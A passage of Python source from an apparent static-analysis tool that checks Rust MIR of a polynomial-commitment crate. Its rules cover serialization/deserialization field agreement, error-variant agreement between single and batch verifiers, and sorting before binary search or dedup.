            if x in rnames:
                src.add(x)
            elif x in binds:
                frontier.extend(locals_in(binds[x]))
        want = f[len("prepared_"):] if f.startswith("prepared_") else None
        srcf = {inv.get(s, [None])[0] for s in src}
        if want is None:
            if not f.startswith("_"):
                bad.append((f, "is neither written nor a prepared_* companion of a written field"))
        elif srcf != {want}:
            bad.append((f, "is rebuilt from %s, expected from %s" % (sorted(x or "?" for x in srcf) or "nothing", want)))
    res.append((not bad, "rebuilt", "rebuilt fields %s are computed from their companions" % rebuilt if not bad else
                "field %s %s" % bad[0]))
    res.append((not untried, "read-errors", "every read is followed by `?`" if not untried else
                "the read of `%s` does not propagate its error" % untried[0]))
    return res
