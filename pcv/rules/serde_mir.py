"""R8 SERDE-AGREEMENT on MIR (resolved calls, exact flow), for CanonicalSerialize / CanonicalDeserialize impls of structs.

(i)   W: the self field each `serialize_*` call in serialize_with_mode writes, in control-flow order (the call's first
      operand is traced backwards over moves, reborrows, pattern bindings and carrier calls to a projection of self);
(ii)  R: the field of the result's struct aggregate each `deserialize_*` call's value lands in (traced forwards through
      `?`, moves and single-operand wrapper constructors), in control-flow order;
(iii) Z: the self fields whose `serialized_size` is taken in serialized_size;
(iv)  for aggregate operands that are not a read (prepared_*): the reads they are computed from.
Oracle: W == R as sequences, read types equal field types, set(Z) == set(W), prepared_X computed from X alone, every
read passes through `?` (Try::branch). Syntax (method call vs path call, destructuring, `+=` accumulation, a trailing
`Ok(())`) does not matter."""
SER = "ark_serialize::CanonicalSerialize"
DE = "ark_serialize::CanonicalDeserialize"
WRITE = ("serialize_with_mode", "serialize_compressed", "serialize_uncompressed")
READ = ("deserialize_with_mode", "deserialize_compressed", "deserialize_uncompressed",
        "deserialize_compressed_unchecked", "deserialize_uncompressed_unchecked")
SIZE = ("serialized_size", "compressed_size", "uncompressed_size")
CARRY = ("deref", "as_ref", "clone", "borrow", "as_slice", "iter", "to_vec", "into", "to_owned", "as_deref",
         "deref_mut", "as_mut", "borrow_mut", "as_mut_slice")


def _name(t):
    return (t.get("callee") or "").rsplit("::", 1)[-1]


def defs_of(b):
    D = {}
    for i, blk in enumerate(b.blocks):
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            if not st["dst"]["p"]:
                D.setdefault(st["dst"]["l"], []).append(("st", i, st))
        t = blk["term"]
        if t["k"] == "call" and not t["dst"]["p"]:
            D.setdefault(t["dst"]["l"], []).append(("call", i, t))
    return D


def trace_self(b, pl, D, depth=0):
    """field names from `self` (parameter 1) down to the place, or None if the place is not a projection of self."""
    fields = [e.get("n") if e.get("n") is not None else str(e["f"]) for e in pl["p"] if isinstance(e, dict) and "f" in e]
    if pl["l"] == 1:
        return fields
    ds = D.get(pl["l"], [])
    if len(ds) != 1 or depth > 30:
        return None
    kind, _, x = ds[0]
    src = None
    if kind == "st":
        rv = x["rv"]
        if rv["k"] in ("ref", "rawptr"):
            src = rv["pl"]
        elif rv["k"] in ("use", "cast") and rv.get("ops") and rv["ops"][0]["k"] in ("copy", "move"):
            src = rv["ops"][0]["pl"]
    elif _name(x) in CARRY and x["args"] and x["args"][0]["k"] in ("copy", "move"):
        src = x["args"][0]["pl"]
    if src is None:
        return None
    base = trace_self(b, src, D, depth + 1)
    return None if base is None else base + fields


def copy_of_param(b, op, D, param, depth=0):
    """is the operand an unmodified copy of parameter `param`?"""
    if op["k"] not in ("copy", "move") or op["pl"]["p"]:
        return False
    l = op["pl"]["l"]
    if l == param:
        return True
    ds = D.get(l, [])
    if len(ds) != 1 or depth > 10 or ds[0][0] != "st":
        return False
    rv = ds[0][2]["rv"]
    if rv["k"] in ("use", "cast") and rv.get("ops"):
        return copy_of_param(b, rv["ops"][0], D, param, depth + 1)
    return False


def read_wrappers(facts, de):
    """calls in `de` of a crate function that does nothing but read one value with the trait's method and hand it back
    (`fn read<T>(r, compress) -> Result<T, _> { T::deserialize_with_mode(r, compress, Validate::No) }`):
    id(call terminator) -> {self_ty, mode_arg (index of the call argument that becomes the read's mode)}."""
    out = {}
    for i, t in de.calls():
        if de.blocks[i]["cleanup"]:
            continue
        for c in facts.call_targets(t, None):
            w = facts.bodies[c]
            if w.kind == "Closure":
                continue
            inner = [(j, x) for j, x in w.calls() if _name(x) in READ and x.get("callee_trait") == DE and not w.blocks[j]["cleanup"]]
            if len(inner) != 1 or len(list(w.calls())) > 3:
                continue
            j, x = inner[0]
            Dw = defs_of(w)
            # the value read is what the wrapper returns
            l, ok = x["dst"]["l"], x["dst"]["l"] == 0 and not x["dst"]["p"]
            if not ok:
                ok = any(kind == "st" and st["rv"]["k"] in ("use",) and st["rv"]["ops"][0].get("pl", {}).get("l") == l
                         for kind, _, st in Dw.get(0, []))
            if not ok or _name(x) != "deserialize_with_mode" or len(x["args"]) < 3:
                continue
            mode = None
            for k in range(1, w.arg_count + 1):
                if copy_of_param(w, x["args"][1], Dw, k):
                    mode = k - 1
            sub = dict((a, b_) for a, b_ in (t.get("subst") or []) if isinstance(a, str))
            out[id(t)] = dict(self_ty=sub.get(x.get("self_ty") or "", None), mode_arg=mode)
    return out


def ordered_sites(b, names, trait, extra=None):
    """call sites (block, term) of the trait's methods in reverse postorder; second value False when two of them are
    not ordered by dominance (a conditional write / read). `extra`: ids of call terminators that count as well."""
    sites = [(i, t) for i, t in b.calls() if not b.blocks[i]["cleanup"] and
             ((_name(t) in names and t.get("callee_trait") == trait) or (extra and id(t) in extra))]
    succ = b.succ()
    order = []
    seen = set()

    def dfs(v):
        st = [(v, iter(succ[v]))]
        seen.add(v)
        while st:
            x, it = st[-1]
            for y in it:
                if y not in seen:
                    seen.add(y)
                    st.append((y, iter(succ[y])))
                    break
            else:
                order.append(x)
                st.pop()
    dfs(0)
    rpo = {v: k for k, v in enumerate(reversed(order))}
    sites = [s for s in sites if s[0] in rpo]
    sites.sort(key=lambda s: rpo[s[0]])
    linear = all(b.dominates(sites[k][0], sites[k + 1][0]) for k in range(len(sites) - 1))
    return sites, linear


def uses_of(b, local):
    """(kind, block, node, operand index) for every read of `local` (whole or projected)."""
    out = []
    for i, blk in enumerate(b.blocks):
        if blk["cleanup"]:
            continue
        for st in blk["stmts"]:
            rv = st["rv"]
            if rv["k"] in ("ref", "rawptr", "discr"):
                if rv["pl"]["l"] == local:
                    out.append(("st", i, st, 0))
            else:
                for j, o in enumerate(rv.get("ops", [])):
                    if o["k"] in ("copy", "move") and o["pl"]["l"] == local:
                        out.append(("st", i, st, j))
        t = blk["term"]
        if t["k"] == "call":
            for j, a in enumerate(t["args"]):
                if a["k"] in ("copy", "move") and a["pl"]["l"] == local:
                    out.append(("call", i, t, j))
    return out


def landing_field(b, local, adt, field_names, ctor=None):
    """(field name, tried, wrapped) of the struct aggregate operand the value in `local` is moved into. `ctor` =
    (call terminator, constructor body): an argument of that call lands where the constructor's parameter lands."""
    seen = {local}
    work = [(local, False, False)]
    while work:
        l, tried, wrapped = work.pop()
        for kind, i, x, j in uses_of(b, l):
            if kind == "call" and ctor is not None and x is ctor[0]:
                fld, t2, w2 = landing_field(ctor[1], j + 1, adt, field_names)
                if fld is not None:
                    return fld, tried or t2, wrapped or w2
                continue
            if kind == "call":
                nm = _name(x)
                if nm == "branch" and j == 0:
                    nxt, ntried = x["dst"]["l"], True
                elif nm in ("unwrap", "expect") and j == 0:
                    nxt, ntried = x["dst"]["l"], tried
                else:
                    continue
                if not x["dst"]["p"] and nxt not in seen:
                    seen.add(nxt)
                    work.append((nxt, ntried, wrapped))
                continue
            rv = x["rv"]
            d = x["dst"]
            if rv["k"] == "agg":
                if rv.get("adt") == adt and rv.get("ak") == "adt":
                    return (field_names[j] if j < len(field_names) else None), tried, wrapped
                if rv.get("ak") == "tuple" and not d["p"] and d["l"] not in seen:
                    # a tuple-typed field is read component by component
                    seen.add(d["l"])
                    work.append((d["l"], tried, True))
                elif len(rv.get("ops", [])) == 1 and not d["p"] and d["l"] not in seen:
                    seen.add(d["l"])
                    work.append((d["l"], tried, True))
            elif rv["k"] in ("use", "cast") and not d["p"] and d["l"] not in seen:
                seen.add(d["l"])
                work.append((d["l"], tried, wrapped))
    return None, False, False


def backward_reads(b, local, D, read_roots):
    """which reads (by index) the value of `local` is computed from (intra-body backward slice)."""
    seen = set()
    st = [local]
    hit = set()
    while st:
        l = st.pop()
        if l in seen:
            continue
        seen.add(l)
        if l in read_roots:
            hit.add(read_roots[l])
            continue
        for kind, _, x in D.get(l, []):
            if kind == "st":
                rv = x["rv"]
                if rv["k"] in ("ref", "rawptr", "discr"):
                    st.append(rv["pl"]["l"])
                else:
                    for o in rv.get("ops", []):
                        if o["k"] in ("copy", "move"):
                            st.append(o["pl"]["l"])
            else:
                for a in x["args"]:
                    if a["k"] in ("copy", "move"):
                        st.append(a["pl"]["l"])
    return hit


def result_ty(t):
    ty = t.get("self_ty")
    return ty


def check_family(facts, adt):
    """list of (ok, key suffix, detail) for struct `adt`."""
    a = facts.adts.get(adt)
    ser = facts.find1("serialize_with_mode", self_adt=adt, trait=SER)
    size = facts.find1("serialized_size", self_adt=adt, trait=SER)
    de = facts.find1("deserialize_with_mode", self_adt=adt, trait=DE)
    if a is None or ser is None or size is None or de is None:
        return [(False, "impls", "CanonicalSerialize / CanonicalDeserialize impls of %s not found (ser=%s size=%s de=%s): "
                 "fail closed" % (adt, bool(ser), bool(size), bool(de)))]
    fields = a["variants"][0]["fields"]
    fnames = [fd["name"] for fd in fields]
    ftypes = {fd["name"]: fd["ty"] for fd in fields}
    res = []
    # (i) writes
    Ds = defs_of(ser)
    wsites, wlin = ordered_sites(ser, WRITE, SER)
    W = []
    for i, t in wsites:
        a0 = t["args"][0]
        tr = trace_self(ser, a0["pl"], Ds) if a0["k"] in ("copy", "move") else None
        W.append(tr[0] if tr else None)
    if not W or None in W or not wlin:
        return [(False, "write-shape", "serialize_with_mode of %s: %s" % (adt, "a written value is not a field of self" if (W and None in W)
                 else ("writes are not in one straight line" if W else "nothing is written")))]
    # (iii) sizes
    Dz = defs_of(size)
    Z = []
    for i, t in size.calls():
        if _name(t) in SIZE and t.get("callee_trait") == SER and not size.blocks[i]["cleanup"]:
            a0 = t["args"][0]
            tr = trace_self(size, a0["pl"], Dz) if a0["k"] in ("copy", "move") else None
            Z.append(tr[0] if tr else None)
    # (ii) reads
    Dd = defs_of(de)
    wrappers = read_wrappers(facts, de)
    rsites, rlin = ordered_sites(de, READ, DE, extra=wrappers)
    aggs = [st for blk in de.blocks if not blk["cleanup"] for st in blk["stmts"]
            if st["rv"].get("k") == "agg" and st["rv"].get("adt") == adt and st["rv"].get("ak") == "adt"]
    agg_body, ctor = de, None
    if not aggs:
        # the struct may be assembled by a constructor function of the crate
        for i, t in de.calls():
            for c in facts.call_targets(t, None):
                cb = facts.bodies[c]
                ca = [st for blk in cb.blocks if not blk["cleanup"] for st in blk["stmts"]
                      if st["rv"].get("k") == "agg" and st["rv"].get("adt") == adt and st["rv"].get("ak") == "adt"]
                if cb.kind != "Closure" and len(ca) == 1 and ctor is None:
                    aggs, agg_body, ctor = ca, cb, (t, cb)
    if len(aggs) != 1 or not rlin:
        return [(False, "read-shape", "deserialize_with_mode of %s: %s" % (adt, "reads are not in one straight line" if not rlin else
                 "%d struct aggregates build the result (expected one)" % len(aggs)))]
    R, untried, wrapped_f = [], [], set()
    read_roots = {}
    for k, (i, t) in enumerate(rsites):
        fld, tried, wrapped = landing_field(de, t["dst"]["l"], adt, fnames, ctor)
        R.append(fld)
        read_roots[t["dst"]["l"]] = k
        if not tried:
            untried.append(fld or "?")
        if wrapped and fld:
            wrapped_f.add(fld)
    ok = (R == W)
    res.append((ok, "order", "the %d fields are written and read back in the same order: %s" % (len(W), ", ".join(W)) if ok else
                "writes %s; reads land in %s" % (W, R)))
    bad_ty = []
    for (i, t), fld in zip(rsites, R):
        if fld is None or fld in wrapped_f:
            continue
        w = wrappers.get(id(t))
        sty = t.get("self_ty") if w is None else w["self_ty"]
        if sty is None and w is not None:
            continue        # a generic read helper whose type argument is inferred from the field it fills
        if (sty or "") != ftypes.get(fld):
            bad_ty.append((fld, sty, ftypes.get(fld)))
    res.append((not bad_ty, "types", "every read has the type of the field it fills" if not bad_ty else
                "read for field %s has type %s but the field is %s" % bad_ty[0]))
    okz = sorted(x or "?" for x in Z) == sorted(W)
    res.append((okz, "size", "serialized_size sums exactly the written fields" if okz else
                "serialized_size sums %s but serialize_with_mode writes %s" % (sorted(x or "?" for x in Z), sorted(W))))
    # (v) modes: every field is written, sized and read in the caller's compression mode
    bad_mode = []
    for (i, t), fld in zip(wsites, W):
        if _name(t) != "serialize_with_mode" or len(t["args"]) < 3 or not copy_of_param(ser, t["args"][2], Ds, 3):
            bad_mode.append("%s is written with %s" % (fld, _name(t) if _name(t) != "serialize_with_mode" else "another mode than the caller's"))
    for i, t in size.calls():
        if _name(t) in SIZE and t.get("callee_trait") == SER and not size.blocks[i]["cleanup"]:
            if _name(t) != "serialized_size" or len(t["args"]) < 2 or not copy_of_param(size, t["args"][1], Dz, 2):
                bad_mode.append("a size is taken with %s" % (_name(t) if _name(t) != "serialized_size" else "another mode than the caller's"))
    for (i, t), fld in zip(rsites, R):
        w = wrappers.get(id(t))
        if w is not None:
            if w["mode_arg"] is None or w["mode_arg"] >= len(t["args"]) or not copy_of_param(de, t["args"][w["mode_arg"]], Dd, 2):
                bad_mode.append("%s is read with another mode than the caller's" % fld)
            continue
        if _name(t) != "deserialize_with_mode" or len(t["args"]) < 3 or not copy_of_param(de, t["args"][1], Dd, 2):
            bad_mode.append("%s is read with %s" % (fld, _name(t) if _name(t) != "deserialize_with_mode" else "another mode than the caller's"))
    res.append((not bad_mode, "modes", "every field is written, sized and read in the caller's compression mode" if not bad_mode else
                "%s: size, bytes written and bytes read can disagree for one of the two modes" % bad_mode[0]))
    # (iv) rebuilt operands
    agg = aggs[0]
    bad = []
    graph = None
    reach_of = {}
    rebuilt = [f for f in fnames if f not in W]
    for j, f in enumerate(fnames):
        if f in W:
            continue
        op = agg["rv"]["ops"][j] if j < len(agg["rv"]["ops"]) else None
        want = f[len("prepared_"):] if f.startswith("prepared_") else None
        if want is None:
            if not f.startswith("_"):
                bad.append((f, "is neither written nor a prepared_* companion of a written field"))
            continue
        if op is None or op["k"] not in ("copy", "move"):
            bad.append((f, "is not computed from anything that was read"))
            continue
        # which reads the operand is computed from: forward data reach in the flow graph of the deserializer and the
        # local helpers it calls (component-sensitive for tuples, so a helper that rebuilds several prepared
        # elements at once does not mix them)
        if graph is None:
            from ..flow import Graph, DATA
            graph = Graph(facts, facts.closure([de.id], None), [de.id], None)
            reach_of = {}
            for l, k in read_roots.items():
                reach_of[k] = {st[0] for st in graph.reach([(de.id, l)], kinds=(DATA,), typed=False)}
        hits = {k for k, nodes in reach_of.items() if (agg_body.id, op["pl"]["l"]) in nodes}
        srcf = {R[k] for k in hits}
        if srcf != {want}:
            bad.append((f, "is rebuilt from %s, expected from %s" % (sorted(x or "?" for x in srcf) or "nothing", want)))
    res.append((not bad, "rebuilt", "rebuilt fields %s are computed from their companions" % rebuilt if not bad else
                "field %s %s" % bad[0]))
    res.append((not untried, "read-errors", "every read is followed by `?`" if not untried else
                "the read of `%s` does not propagate its error" % untried[0]))
    return res
