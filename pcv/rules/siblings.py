"""R5s SIBLING-REFUSALS: entry points of one scheme that handle the same requests singly and in batches agree on
what they can refuse.

Along a chain single -> batch -> combinations (`check` -> `batch_check` -> `check_combinations`, `open` ->
`batch_open` -> `open_combinations`) every `Error` variant that can be constructed in the scope of the earlier entry
point (its body and everything it calls in the crate) can also be constructed in the scope of the later one. Where the
later one delegates to the earlier one this holds by construction; where it re-implements the work (the batch
verifiers of KZG10, Marlin, Sonic, PST13 and IPA do) it is a cross-check between siblings: a request the single
entry point refuses with variant V and that the batch entry point cannot refuse with V is either answered or refused
some other way - the two no longer agree (finding F8 was this: `check` refused a mis-shaped IPA proof with
IncorrectInputLength, `batch_check` could not).

The rule compares sets of constructible variants, not conditions: it needs no table and does not depend on how the
refusal is written or where in the scope it sits; behaviour-preserving refactorings keep both sets.
"""
from ..engine import short

ERROR_ADT = "error::Error"


def refusal_variants(f, bid, ctx_adt):
    """variant -> span of one construction site, over the local call-graph closure of body `bid`."""
    out = {}
    for x in sorted(f.closure([bid], ctx_adt)):
        b = f.bodies[x]
        for blk in b.blocks:
            if blk["cleanup"]:
                continue
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and (rv.get("adt") or "").endswith(ERROR_ADT) and rv.get("variant"):
                    out.setdefault(rv["variant"], "%s:%s" % (b.file(), st.get("line")))
    return out


def run_chain(rep, ctx, scheme, chain, rule="R5s"):
    """chain: [(method name, body or None, ctx_adt)] in the order single, batch, combinations. Returns the number of
    variants compared."""
    f = ctx.facts
    sets = []
    for (m, b, adt) in chain:
        if b is None:
            rep.add(rule, "%s.%s:anchor" % (scheme, m), False, "entry point %s of %s not found (fail closed)" % (m, scheme), None)
            return 0
        sets.append((m, b, refusal_variants(f, b.id, adt)))
    n = 0
    for (m1, b1, v1), (m2, b2, v2) in zip(sets, sets[1:]):
        missing = sorted(set(v1) - set(v2))
        n += len(v1)
        rep.add(rule, "%s:%s-refuses-what-%s-refuses" % (scheme, m2, m1), not missing,
                ("every Error variant constructible under %s (%s) is constructible under %s" % (m1, ", ".join(sorted(v1)) or "none", m2))
                if not missing else
                ("%s can refuse with %s (constructed at %s) but nothing %s calls can construct %s: a request the one refuses "
                 "is answered, or refused differently, by the other" % (m1, ", ".join(missing), v1[missing[0]], m2,
                                                                         "it" if len(missing) == 1 else "them")),
                b2.span, nontrivial=bool(v1))
    return n
