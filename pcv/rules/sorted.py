"""R17 SORTED-BEFORE-SEARCH: what a binary search looks into has been sorted by the code that built it.

`binary_search*` / `partition_point` return an arbitrary answer on a slice that is not sorted by the searched key; the
compiler does not know the precondition. For every search site in the crate the receiver is traced back:

 (a) to a field of a crate struct (the per-bound tables of the verifier keys): every struct literal in the crate that
     builds that struct must give the field a value that is data-derived from a local on which a `sort*` was called
     in the building function (or in a closure of it) - or from the like-named field of another value (a copy
     inherits); a literal whose field value has no sorted ancestor hands later searches an unsorted table;
 (b) to a parameter: the arguments at the crate's call sites are traced the same way (one level);
 (c) to a collection built in the same function (`collect`, `to_vec`, `push`): a `sort*` on it (or on what it was
     mapped from) must exist in the function, unless it was drawn from an ordered container (`BTreeMap` / `BTreeSet`
     iteration).
Receivers that come from another crate's types (the terms of a sparse polynomial) are counted as not judged.
"""
from ..engine import short
from ..flow import Graph, DATA, ALIAS

SEARCH = ("binary_search", "binary_search_by", "binary_search_by_key", "partition_point")
SORT = ("sort", "sort_unstable", "sort_by", "sort_by_key", "sort_unstable_by", "sort_unstable_by_key", "sort_by_cached_key")
VIEW = ("deref", "as_ref", "as_slice", "as_deref", "unwrap", "expect", "as_mut", "borrow", "index", "iter", "clone",
        "to_vec", "to_owned", "deref_mut", "as_mut_slice", "unwrap_or_default", "cloned", "copied", "branch", "ok_or",
        "ok_or_else", "ok", "into")
BUILD = ("collect", "from_iter", "new", "with_capacity", "into_vec", "from_elem", "from", "into_iter", "map", "filter",
         "enumerate", "zip", "rev", "chain", "flat_map", "filter_map", "unzip", "extend", "push")


def _named_field(pl):
    named = [e for e in pl["p"] if isinstance(e, dict) and "n" in e]
    return named[-1] if named else None


def _defs(b, l):
    out = []
    for i, blk in enumerate(b.blocks):
        for st in blk["stmts"]:
            if st["dst"]["l"] == l and not st["dst"]["p"]:
                out.append(("s", i, st["rv"]))
        t = blk["term"]
        if t["k"] == "call" and t["dst"]["l"] == l and not t["dst"]["p"]:
            out.append(("c", i, t))
    return out


def root_of(f, b, l, depth=0, seen=None):
    """('field', adt, name) | ('param', index) | ('upvar', index) | ('built', local, ordered_source) | ('other', why)."""
    seen = seen if seen is not None else set()
    if l in seen or depth > 12:
        return ("other", "cycle")
    seen.add(l)
    if 1 <= l <= b.arg_count:
        return ("param", l)
    for k, up in (b.upvar_locals or {}).items():
        if up == l:
            return ("upvar", k)
    ds = _defs(b, l)
    if len(ds) != 1:
        return ("built", l, False) if ds else ("other", "no definition")
    kind, i, d = ds[0]
    if kind == "s":
        k = d.get("k")
        pl = None
        if k == "ref":
            pl = d["pl"]
        elif k in ("use", "cast") and d["ops"] and d["ops"][0]["k"] in ("copy", "move"):
            pl = d["ops"][0]["pl"]
        if pl is None:
            return ("built", l, False)
        fo = _named_field(pl)
        if fo and fo.get("adt") in f.adts:
            return ("field", fo["adt"], fo["n"])
        return root_of(f, b, pl["l"], depth + 1, seen)
    nm = (d.get("callee") or "").rsplit("::", 1)[-1]
    args = [a for a in d["args"] if a["k"] in ("copy", "move")]
    if nm in VIEW and args:
        fo = _named_field(args[0]["pl"])
        if fo and fo.get("adt") in f.adts:
            return ("field", fo["adt"], fo["n"])
        return root_of(f, b, args[0]["pl"]["l"], depth + 1, seen)
    if f.call_targets(d, b.self_adt):
        return ("other", "result of a crate function")
    ordered = any("collections::btree" in (b.locals[a["pl"]["l"]]["ty"]) for a in args)
    if nm in BUILD:
        if not ordered and args:
            r = root_of(f, b, args[0]["pl"]["l"], depth + 1, seen)
            if r[0] == "built":
                if len(r) > 3:
                    return ("built", l, r[2], r[3])
                ordered = r[2]
            elif r[0] in ("field", "param", "upvar"):
                return ("built", l, False, r)
        return ("built", l, ordered)
    return ("other", "result of %s" % nm)


def _grown(b, l):
    """something is pushed into / extended onto the local (through a `&mut` of it)."""
    refs = {l}
    for blk in b.blocks:
        for st in blk["stmts"]:
            if st["rv"].get("k") == "ref" and st["rv"]["pl"]["l"] in refs and not st["dst"]["p"]:
                refs.add(st["dst"]["l"])
    return any((t.get("callee") or "").rsplit("::", 1)[-1] in ("push", "extend", "insert", "extend_from_slice", "append")
               and t["args"] and t["args"][0]["k"] in ("copy", "move") and t["args"][0]["pl"]["l"] in refs for _, t in b.calls())


def _top_body(f, b):
    return f.bodies.get(b.root, b) if b.kind == "Closure" else b


def _sorted_reach(f, top):
    """nodes data-derived from a local on which a sort was called, in the scope of function `top`."""
    adt = top.self_adt
    scope = f.closure([top.id], adt)
    starts = []
    for bid in scope:
        b = f.bodies[bid]
        for i, t in b.calls():
            if (t.get("callee") or "").rsplit("::", 1)[-1] not in SORT or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            l = t["args"][0]["pl"]["l"]
            # the receiver is a `&mut` temporary of the sorted local
            seen = set()
            while l not in seen:
                seen.add(l)
                starts.append((bid, l))
                ds = _defs(b, l)
                if len(ds) == 1 and ds[0][0] == "s" and ds[0][2].get("k") == "ref":
                    l = ds[0][2]["pl"]["l"]
                elif len(ds) == 1 and ds[0][0] == "c" and (ds[0][2].get("callee") or "").rsplit("::", 1)[-1] in ("deref_mut", "as_mut_slice", "as_mut") \
                        and ds[0][2]["args"] and ds[0][2]["args"][0]["k"] in ("copy", "move"):
                    l = ds[0][2]["args"][0]["pl"]["l"]
    if not starts:
        return set(), 0
    g = Graph(f, scope, [top.id], adt)
    return {st[0] for st in g.reach(starts, typed=False, kinds=(DATA, ALIAS))}, len(starts)


def _literal_sites(f, adt, field):
    for bid in sorted(f.bodies):
        b = f.bodies[bid]
        for i, blk in enumerate(b.blocks):
            if blk["cleanup"]:
                continue
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("adt") == adt and field in (rv.get("fields") or ()):
                    op = rv["ops"][rv["fields"].index(field)]
                    yield b, i, st, op


def check_field(f, adt, field, memo):
    """[(ok, where, detail)] for every literal that builds `adt`."""
    key = (adt, field)
    if key in memo:
        return memo[key]
    out = []
    for b, i, st, op in _literal_sites(f, adt, field):
        where = "%s:%s" % (b.file(), st.get("line"))
        if op["k"] not in ("copy", "move"):
            out.append((True, where, "a constant"))
            continue
        r = root_of(f, b, op["pl"]["l"]) if not op["pl"]["p"] else None
        fo = _named_field(op["pl"]) if op["pl"]["p"] else None
        if fo is not None or (r and r[0] == "field"):
            out.append((True, where, "copied from a field of another value (inherits its order)"))
            continue
        ds = _defs(b, op["pl"]["l"]) if not op["pl"]["p"] else []
        if len(ds) == 1 and ((ds[0][0] == "s" and ds[0][2].get("k") == "agg" and not ds[0][2].get("ops"))
                             or (ds[0][0] == "c" and (ds[0][2].get("callee") or "").rsplit("::", 1)[-1] in ("default", "new") and not ds[0][2]["args"])):
            out.append((True, where, "empty"))
            continue
        if (_top_body(f, b).impl_trait or "").endswith("CanonicalDeserialize"):
            out.append((True, where, "rebuilt from its serialized form (inherits the order that was written)"))
            continue
        top = _top_body(f, b)
        reach, n = _sorted_reach(f, top)
        ok = (b.id, op["pl"]["l"]) in reach
        out.append((ok, where, ("derived from a collection sorted in %s" % short(top.id)) if ok else
                    ("the value stored in `%s` has no sorted ancestor in %s (%d sort call(s) there)" % (field, short(top.id), n))))
    memo[key] = out
    return out


DEDUP = ("dedup", "dedup_by", "dedup_by_key")


def run_dedup(rep, ctx, bodies=None, rule="R17"):
    """`Vec::dedup*` removes *adjacent* repeats only: on a vector that is not sorted, repeats that are apart survive.
    Every dedup call needs a `sort*` on the same vector that dominates it in the same function. Returns #sites."""
    f = ctx.facts
    n = 0
    for bid in sorted(bodies if bodies is not None else f.bodies):
        b = f.bodies[bid]
        k = 0

        def root(l):
            seen = set()
            while l not in seen:
                seen.add(l)
                ds = _defs(b, l)
                if len(ds) == 1 and ds[0][0] == "s" and ds[0][2].get("k") == "ref":
                    l = ds[0][2]["pl"]["l"]
                elif len(ds) == 1 and ds[0][0] == "c" and (ds[0][2].get("callee") or "").rsplit("::", 1)[-1] in ("deref_mut", "as_mut", "as_mut_slice", "deref") \
                        and ds[0][2]["args"] and ds[0][2]["args"][0]["k"] in ("copy", "move"):
                    l = ds[0][2]["args"][0]["pl"]["l"]
                else:
                    break
            return l
        calls = list(b.calls())
        for i, t in calls:
            c = t.get("callee") or ""
            if c.rsplit("::", 1)[-1] not in DEDUP or "Vec" not in c or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            n += 1
            r = root(t["args"][0]["pl"]["l"])
            sorts = [j for j, u in calls if (u.get("callee") or "").rsplit("::", 1)[-1] in SORT and u["args"] and u["args"][0]["k"] in ("copy", "move")
                     and root(u["args"][0]["pl"]["l"]) == r and j != i and b.dominates(j, i)]
            rep.add(rule, "dedup@%s#%d:sorted" % (short(bid), k), bool(sorts),
                    ("the vector de-duplicated at %s was sorted just before (%s)" % (t["span"], b.blocks[sorts[-1]]["term"].get("span"))) if sorts else
                    ("`%s` at %s removes adjacent repeats only, and no sort of the same vector precedes it in %s: repeats that "
                     "are apart survive" % (c.rsplit("::", 1)[-1], t["span"], short(bid))), t["span"])
            k += 1
    return n


def run(rep, ctx, bodies=None, rule="R17"):
    """one instance per search site in `bodies` (default: every body of the crate). Returns (#sites, #judged)."""
    f = ctx.facts
    memo = {}
    n = judged = 0
    for bid in sorted(bodies if bodies is not None else f.bodies):
        b = f.bodies[bid]
        k = 0
        for i, t in b.calls():
            c = t.get("callee") or ""
            if c.rsplit("::", 1)[-1] not in SEARCH or "slice" not in c or not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            n += 1
            key = "search@%s#%d:sorted" % (short(bid), k)
            k += 1
            roots = [(b, root_of(f, b, t["args"][0]["pl"]["l"]))]
            # one level up: a parameter / a captured variable is what the callers / the creator hand in
            resolved = []
            for (rb, r) in roots:
                if r[0] == "upvar":
                    parent = f.bodies.get(rb.root)
                    done = False
                    if parent is not None:
                        for blk in parent.blocks:
                            for st in blk["stmts"]:
                                rv = st["rv"]
                                if rv.get("k") == "agg" and rv.get("closure") == rb.id and r[1] < len(rv["ops"]) and rv["ops"][r[1]]["k"] in ("copy", "move"):
                                    resolved.append((parent, root_of(f, parent, rv["ops"][r[1]]["pl"]["l"])))
                                    done = True
                    if not done:
                        resolved.append((rb, ("other", "captured variable")))
                elif r[0] == "param" and rb.kind == "Closure":
                    # the element an adaptor hands to the closure: `opt.as_ref().and_then(|v| v.binary_search..)`
                    parent = f.bodies.get(rb.root)
                    done = False
                    if parent is not None:
                        for ci, ct in parent.calls():
                            if any(a["k"] in ("copy", "move") and parent.locals[a["pl"]["l"]].get("closure") == rb.id for a in ct["args"]) \
                                    and ct["args"] and ct["args"][0]["k"] in ("copy", "move"):
                                resolved.append((parent, root_of(f, parent, ct["args"][0]["pl"]["l"])))
                                done = True
                    if not done:
                        resolved.append((rb, ("other", "closure parameter")))
                elif r[0] == "param":
                    cs = [(cb, ct) for cb in f.bodies.values() for ci, ct in cb.calls() if rb.id in f.call_targets(ct, cb.self_adt or _top_body(f, cb).self_adt)]
                    if not cs:
                        resolved.append((rb, ("other", "parameter of an entry point")))
                    for cb, ct in cs:
                        a = ct["args"][r[1] - 1] if r[1] - 1 < len(ct["args"]) else None
                        if a is None or a["k"] not in ("copy", "move"):
                            resolved.append((cb, ("other", "constant argument")))
                            continue
                        fo = _named_field(a["pl"])
                        resolved.append((cb, ("field", fo["adt"], fo["n"]) if fo and fo.get("adt") in f.adts else root_of(f, cb, a["pl"]["l"])))
                else:
                    resolved.append((rb, r))
            bad, notes, unj = [], [], 0
            for (rb, r) in resolved:
                if r[0] == "field":
                    res = check_field(f, r[1], r[2], memo)
                    if not res:
                        unj += 1
                        notes.append("%s.%s is never built by a literal in the crate" % (r[1].rsplit("::", 1)[-1], r[2]))
                    for ok, where, detail in res:
                        (notes if ok else bad).append("%s.%s built at %s: %s" % (r[1].rsplit("::", 1)[-1], r[2], where, detail))
                elif r[0] == "built":
                    if r[2]:
                        notes.append("drawn from an ordered container")
                        continue
                    top = _top_body(f, rb)
                    reach, ns = _sorted_reach(f, top)
                    src = r[3] if len(r) > 3 else None
                    if (rb.id, r[1]) in reach:
                        notes.append("sorted in %s" % short(top.id))
